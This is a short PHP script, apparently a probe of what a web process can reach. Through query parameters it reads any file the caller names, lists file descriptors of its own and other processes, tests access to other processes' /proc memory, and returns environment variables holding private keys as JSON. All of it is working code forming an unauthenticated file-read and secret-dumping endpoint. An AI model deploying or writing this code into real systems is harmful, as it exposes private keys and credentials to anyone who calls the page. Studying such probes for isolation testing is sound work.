<?php // What this process can get hold of by names: the key's file, its descriptors, other processes'.
$links = fn ($folder) => array_map(fn ($fd) => @readlink("$folder/$fd"), @scandir($folder) ?: []);
$others = array_filter(array_map('intval', explode(',', $_GET['pids'])));
echo json_encode([
    'key' => @file_get_contents($_GET['key']),
    'own' => array_values($links('/proc/self/fd')),
    'others' => array_map(fn ($pid) => @scandir("/proc/$pid/fd"), $others),
    'memories' => array_map(fn ($pid) => @fopen("/proc/$pid/mem", 'rb') !== false, $others),
    'environment' => array_filter(getenv(), fn ($value) => str_contains($value, 'PRIVATE KEY')),
]);
